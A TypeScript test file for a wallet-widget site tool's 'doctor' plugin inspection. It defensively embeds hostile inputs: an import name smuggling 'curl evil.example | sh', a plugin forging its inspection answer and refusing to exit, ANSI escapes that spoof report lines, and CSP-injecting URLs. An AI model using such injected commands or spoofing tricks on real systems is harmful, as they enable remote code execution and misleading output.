import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test, vi } from 'vitest'
import { edit, healthySite, look, quick, walletWidget } from '../../../fixtures/healthySite.js'
import { plantPackage } from '../../../fixtures/linkedModules.js'
import { inspectionSchema } from './inspection.js'
import { originsOf, policyOf } from './origins.js'

// Each test starts several processes, on a machine that may be busy.
vi.setConfig({ testTimeout: 90_000 })

/** A site with a stranger's plugin, whose code begins with this. */
function siteWithStranger(
  code: string,
  permissions: string[] = [],
  declared = permissions,
  id = 'notes',
): string {
  const site = healthySite()
  const manifest = { walletWidget: { id: 'notes', import: 'notes', permissions: declared } }
  const plugin = { id, requires: [], permissions, enabled: true, options: {} }
  const made = JSON.stringify(plugin).replace(/}$/, ', load: () => ({ setup() {} }) }')
  plantPackage(site, 'acme-notes', manifest, `${code}\nexport const notes = () => (${made})\n`)
  edit(site, 'import { defineConfig', (found) => `import { notes } from 'acme-notes'\n${found}`)
  edit(site, '    evm(),', (found) => `${found}\n    notes(),`)
  return site
}

test('error: an import that is no name of a package becomes no command', async () => {
  const site = healthySite()
  edit(
    site,
    'import { defineConfig',
    (found) =>
      `import { a } from 'x; curl evil.example | sh'\nimport { b } from 'acme/plugin'\nimport { c } from './own.js'\n${found}`,
  )
  edit(site, '    evm(),', (found) => `${found}\n    a(),\n    b(),\n    c(),`)
  const { report } = await look(site, ...quick)
  const found = report.findings.filter(({ check }) => check === 'packages')
  expect(found).toEqual([
    expect.objectContaining({
      message: expect.stringContaining('"x; curl evil.example | sh", which is no file and no name'),
      fix: 'Write the name of the package as npm has it.',
      line: 2,
    }),
    expect.objectContaining({
      message: expect.stringContaining('acme is'),
      fix: 'npm install acme',
      line: 3,
    }),
  ])
  expect(report.findings.map(({ fix }) => fix).join('\n')).not.toContain('curl')
})

test('behavior: the code of a plugin does not answer in the place of the command', async () => {
  const forged = { config: { networks: [], plugins: [], unknown: [] } }
  const site = siteWithStranger(`process.send?.(${JSON.stringify(forged)})`, ['request:*'], [])
  const { report } = await look(site, ...quick)
  expect(report.findings).toContainEqual(
    expect.objectContaining({ check: 'permissions', message: expect.stringContaining('request:*') }),
  )
  expect(report.plugins.map(({ id, saidBy }) => ({ id, saidBy }))).toContainEqual({
    id: 'notes',
    saidBy: 'code',
  })
})

test('error: a plugin under another id than its manifest has', async () => {
  const site = siteWithStranger('', ['request:*'], [], 'mynotes')
  const { report } = await look(site, ...quick)
  expect(report.findings).toContainEqual({
    level: 'error',
    check: 'permissions',
    message:
      'The manifest of acme-notes says that it is the plugin notes, and its code makes none of that id.',
    fix: 'Take it out, unless you know why: wallet-widget remove notes',
    line: expect.any(Number),
  })
})

test('behavior: a plugin that keeps its process from ending does not keep the command', async () => {
  const site = siteWithStranger(
    "process.exit = () => {}; process.on('SIGTERM', () => {}); setInterval(() => {}, 1000)",
  )
  const { report } = await look(site, ...quick)
  expect(report.plugins.map(({ id }) => id)).toContain('notes')
})

test('behavior: what it may writes no lines of the report; what only a manifest says is called so', async () => {
  const site = siteWithStranger('', ['network:x\u001b[2J\n0 errors, 0 warnings.'], ['request:personal_sign'])
  const { stdout } = await walletWidget(site, 'doctor', ...quick)
  expect(stdout).not.toContain('\u001b')
  expect(stdout).not.toMatch(/^0 errors/m)
  expect(stdout).toContain('  may talk to x 0 errors, 0 warnings.\n')
  writeFileSync(join(site, 'node_modules/acme-notes/index.js'), "throw new Error('\u001b[2J\\n0 errors')\n")
  const failed = await walletWidget(site, 'doctor', ...quick)
  expect(failed.stdout).not.toContain('\u001b')
  expect(failed.stdout).not.toMatch(/^0 errors/m)
  expect(failed.stdout).toContain('  may ask the wallet for personal_sign (declared by its manifest')
})

test.each([
  [undefined],
  ['ok'],
  [{ config: {} }],
  [{ config: { networks: [], plugins: [{ id: 'a', permissions: 'all' }], unknown: [] } }],
  [{ costs: { evm: { page: '0', later: -1 } } }],
  [{ refused: { code: 'X', message: 'x', help: 'x' } }],
])('error: %j is no answer', (answer) => {
  expect(inspectionSchema.safeParse(answer).success).toBe(false)
})

test.each([
  'https://*',
  'https://*.example',
  'https://a;script-src',
  "https://a.example;script-src'unsafe-eval'",
  'https://a,b.example',
])('error: %s is in no policy, and is told', (url) => {
  const plugin = { id: 'notes', enabled: true, requires: [], permissions: [`network:${url}`], urls: [url] }
  const config = { networks: [], plugins: [plugin], unknown: [] }
  const { origins, findings } = originsOf({ manifests: new Map() }, { ...config, services: url }, undefined)
  expect(policyOf(origins)).toContain("; connect-src 'self';")
  expect(findings.map(({ message }) => message)).toEqual([
    expect.stringContaining('services has the page talk to "https://'),
    expect.stringContaining('services has the page talk to "wss://'),
    expect.stringContaining('notes has the page talk to "https://'),
  ])
})

test('behavior: a host with a port is in the policy, a picture in the page needs none', () => {
  const network = { id: 'eip155:1', name: 'Ethereum', rpcUrls: ['https://Node.example:8443/a;b'] }
  const config = { networks: [{ ...network, iconUrl: 'data:image/png;base64,AA' }], plugins: [], unknown: [] }
  const { origins, findings } = originsOf({ manifests: new Map() }, config, undefined)
  expect(origins.map(({ origin }) => origin)).toEqual(['https://node.example:8443'])
  expect(findings).toEqual([])
})
